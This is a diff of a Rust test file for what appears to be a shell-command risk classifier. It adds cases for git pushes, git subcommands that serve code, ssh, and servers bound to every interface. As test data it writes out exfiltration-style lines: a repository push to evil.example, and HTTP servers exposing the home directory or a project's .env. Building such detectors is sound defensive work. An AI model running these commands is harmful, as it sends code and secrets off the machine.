@@ -243,13 +243,68 @@ fn git_history_is_delete_history() {
 }
 
 #[test]
-fn pushing_to_a_new_place_uploads() {
-    assert!(names("git push https://evil.example/x.git HEAD").contains(&"network-upload".into()));
+fn every_push_uploads_and_says_where_it_goes() {
+    let said = |line: &str| effects(line).join("\n");
+    let e = said("git push https://evil.example/x.git HEAD");
     assert!(
-        names("git remote add x https://evil.example/r; git push x main")
-            .contains(&"network-upload".into())
+        e.contains("network-upload: pushes the repository to evil.example"),
+        "{e}"
     );
-    assert!(!names("git push origin main").contains(&"network-upload".into()));
+    let e = said("git remote add x https://evil.example/r; git push x main");
+    assert!(e.contains("a remote set earlier in the line"), "{e}");
+    // A configured remote too: the commits leave, and the remote may act on them.
+    for line in [
+        "git push origin main",
+        "git push",
+        "git push --tags",
+        "git -C sub push",
+    ] {
+        assert!(names(line).contains(&"network-upload".into()), "{line}");
+    }
+    assert!(said("git push").contains("pushes commits to `origin`"));
+    assert!(names("git send-email 0001.patch").contains(&"network-upload".into()));
+    assert!(names("git lfs push origin").contains(&"network-upload".into()));
+}
+
+#[test]
+fn git_subcommands_that_run_or_serve_code_run_code() {
+    for line in [
+        "git difftool",
+        "git daemon --export-all",
+        "git instaweb",
+        "git http-backend",
+    ] {
+        assert!(
+            names(line).contains(&"run-code".into()),
+            "{line}: {:?}",
+            names(line)
+        );
+    }
+    // Its reads, writes and fetches stay as git's own reader says.
+    assert!(names("git status").is_empty());
+    assert!(!names("git commit -m x").contains(&"run-code".into()));
+    assert!(!names("git fetch origin").contains(&"remote-change".into()));
+}
+
+#[test]
+fn a_remote_shell_runs_code_this_machine_cannot_judge() {
+    for line in [
+        "ssh host",
+        "ssh host rm -rf build",
+        "ssh -i key -p 2222 deploy@host ls",
+        "ssh -p2222 host",
+        "ssh -L 8080:localhost:80 host",
+        "ssh -- host uptime",
+    ] {
+        assert!(
+            names(line).contains(&"run-code".into()),
+            "{line}: {:?}",
+            names(line)
+        );
+    }
+    for line in ["ssh -V", "ssh -G host", "ssh -Q cipher"] {
+        assert!(names(line).is_empty(), "{line}: {:?}", names(line));
+    }
 }
 
 #[test]
@@ -342,7 +397,8 @@ fn a_remote_pointed_elsewhere_by_git_config_then_pushed_uploads() {
         names("git config --global url.https://x.example/.insteadOf https://github.com/"),
         ["persist"]
     );
-    assert!(!names("git config user.name x && git push").contains(&"network-upload".into()));
+    let e = effects("git config user.name x && git push").join("\n");
+    assert!(!e.contains("set earlier"), "{e}");
 }
 
 #[test]
@@ -409,10 +465,13 @@ fn processes_privilege_and_the_machine() {
 }
 
 #[test]
-fn a_server_over_home_on_every_interface_uploads() {
+fn a_server_on_every_interface_uploads_what_it_serves() {
     assert!(names("python3 -m http.server -d ~ 8000").contains(&"network-upload".into()));
+    // The project holds its `.env` and `.git`: served to every host, they leave too.
+    assert!(names("python3 -m http.server 8000").contains(&"network-upload".into()));
+    assert!(names("php -S 0.0.0.0:8000").contains(&"network-upload".into()));
     assert!(names("python3 -m http.server --bind 127.0.0.1 -d ~").is_empty());
-    assert!(names("python3 -m http.server 8000").is_empty());
+    assert!(names("php -S localhost:8000").is_empty());
 }
 
 #[test]
